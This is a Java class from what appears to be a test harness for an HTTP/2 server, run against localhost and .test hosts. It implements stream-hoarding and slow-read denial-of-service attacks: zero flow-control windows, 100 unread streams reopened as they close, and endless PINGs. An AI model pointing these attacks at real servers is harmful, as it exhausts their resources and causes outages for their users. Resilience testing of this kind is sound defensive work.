package dev.adit.neverdrop;

import dev.adit.testbed.Http2Frames;
import java.io.BufferedInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.time.Duration;
import java.util.concurrent.atomic.LongAdder;

/** Attacks of streams that are opened and left so; what is ended is opened again. */
final class StreamAttacks {
    static final String HOST = "a.test";
    static final String H2C_HOST = "h2c.test";
    static final String HINTS_HOST = "hints.test";
    private static final int STREAMS = 100;
    // Two hundred a second on each connection: more would show how fast endpoints answer.
    private static final Duration PAUSE = Duration.ofMillis(5);
    private static final int SMALL_BUFFER = 4_096;

    private StreamAttacks() {}

    static void unreadStreams(int port, LongAdder done) throws IOException, InterruptedException {
        hoard(port, Http2Frames.get(HOST, "/large"), Http2Frames.END_STREAM, done);
    }

    static void hoardedEndpoints(int port, LongAdder done) throws IOException, InterruptedException {
        hoard(port, Http2Frames.post(HOST, "/upload"), 0, done);
    }

    static void hoardedH2c(int port, LongAdder done) throws IOException, InterruptedException {
        hoard(port, Http2Frames.post(H2C_HOST, "/upload"), 0, done);
    }

    /** Nothing is read; whoever does not notice is asked once more after a while. */
    static void endlessHints(int port, LongAdder done) throws IOException, InterruptedException {
        try (var socket = open(port)) {
            var begin = new ByteArrayOutputStream();
            Http2Frames.preface(begin, Http2Frames.window(0));
            for (var i = 0; i < STREAMS; i++) {
                begin(begin, 2 * i + 1, Http2Frames.get(HINTS_HOST, "/"), Http2Frames.END_STREAM);
            }
            socket.getOutputStream().write(begin.toByteArray());
            done.add(STREAMS);
            while (true) {
                Thread.sleep(100);
                Http2Frames.write(socket.getOutputStream(), Http2Frames.PING, 0, 0, new byte[8]);
            }
        }
    }

    private static void hoard(int port, byte[] head, int flags, LongAdder done)
            throws IOException, InterruptedException {
        try (var socket = open(port)) {
            var begin = new ByteArrayOutputStream();
            Http2Frames.preface(begin, Http2Frames.window(0));
            var next = 1;
            for (; next < 2 * STREAMS; next += 2) {
                begin(begin, next, head, flags);
            }
            var out = socket.getOutputStream();
            out.write(begin.toByteArray());
            done.add(STREAMS);
            var in = new BufferedInputStream(socket.getInputStream());
            for (var frame = Http2Frames.read(in); frame != null; frame = Http2Frames.read(in)) {
                var isAnswer = frame.type() == Http2Frames.DATA || frame.type() == Http2Frames.HEADERS;
                if (frame.type() == Http2Frames.GOAWAY) {
                    return;
                }
                if (frame.type() == Http2Frames.RST_STREAM || (isAnswer && frame.has(Http2Frames.END_STREAM))) {
                    var again = new ByteArrayOutputStream();
                    Thread.sleep(PAUSE);
                    begin(again, next, head, flags);
                    out.write(again.toByteArray());
                    next += 2;
                    done.increment();
                }
            }
        }
    }

    private static void begin(ByteArrayOutputStream to, int stream, byte[] head, int flags) throws IOException {
        Http2Frames.write(to, Http2Frames.HEADERS, flags | Http2Frames.END_HEADERS, stream, head);
    }

    private static Socket open(int port) throws IOException {
        var socket = new Socket();
        socket.setReceiveBufferSize(SMALL_BUFFER);
        socket.connect(new InetSocketAddress("127.0.0.1", port));
        socket.setTcpNoDelay(true);
        return socket;
    }
}
